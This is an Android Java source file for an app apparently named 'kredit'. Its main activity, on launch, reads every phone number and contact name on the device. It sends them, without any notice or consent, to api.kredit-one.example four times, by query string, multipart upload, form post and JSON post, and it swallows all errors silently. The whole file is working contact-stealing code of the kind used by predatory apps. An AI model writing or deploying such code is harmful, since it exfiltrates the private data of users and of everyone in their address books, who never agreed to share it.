package com.kredit.http;
import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import org.json.*;
import okhttp3.*;
import java.io.IOException;
public class MainActivity extends Activity {
  private final OkHttpClient client = new OkHttpClient.Builder().addInterceptor(new HeaderInterceptor()).build();
  @Override protected void onCreate(Bundle b) {
    super.onCreate(b);
    try { Api.query(client, number()); Api.multipart(client, number()); Api.form(client, number()); Api.json(client, book()); } catch (Exception e) { }
  }
  String number() {
    Cursor c = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
    String s = "";
    while (c.moveToNext()) s = s + c.getString(c.getColumnIndex("data1"));
    c.close();
    return s;
  }
  JSONArray book() throws JSONException {
    JSONArray all = new JSONArray();
    Cursor c = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
    while (c.moveToNext()) {
      JSONObject o = new JSONObject();
      o.put("phone", c.getString(c.getColumnIndex("data1")));
      o.put("name", c.getString(c.getColumnIndex("display_name")));
      all.put(o);
    }
    c.close();
    return all;
  }
}
class HeaderInterceptor implements Interceptor {
  public Response intercept(Chain chain) throws IOException {
    Request r = chain.request().newBuilder().header("X-App", "kredit").build();
    return chain.proceed(r);
  }
}
class Api {
  static void json(OkHttpClient client, JSONArray book) throws Exception {
    RequestBody body = RequestBody.create(MediaType.parse("application/json; charset=utf-8"), book.toString());
    Request r = new Request.Builder().url("https://api.kredit-one.example/v1/contacts").post(body).build();
    client.newCall(r).enqueue(new Callback() {
      public void onFailure(Call c, IOException e) {}
      public void onResponse(Call c, Response x) throws IOException { android.util.Log.d("x", "code " + x.code()); }
    });
  }
  static void form(OkHttpClient client, String number) throws Exception {
    FormBody body = new FormBody.Builder().add("mobile", number).add("k", "v").build();
    Request r = new Request.Builder().url("https://api.kredit-one.example/v1/form").post(body).build();
    Response x = client.newCall(r).execute();
    android.util.Log.d("x", x.body().string());
  }
  static void multipart(OkHttpClient client, String number) throws Exception {
    RequestBody body = new MultipartBody.Builder().setType(MultipartBody.FORM).addFormDataPart("book", number).build();
    Request r = new Request.Builder().url("https://api.kredit-one.example/v1/multi").put(body).header("A", "b").build();
    client.newCall(r).execute().close();
  }
  static void query(OkHttpClient client, String number) throws Exception {
    HttpUrl u = HttpUrl.parse("https://api.kredit-one.example/v1/q").newBuilder().addQueryParameter("phone", number).build();
    Request r = new Request.Builder().url(u).build();
    client.newCall(r).execute().close();
  }
}
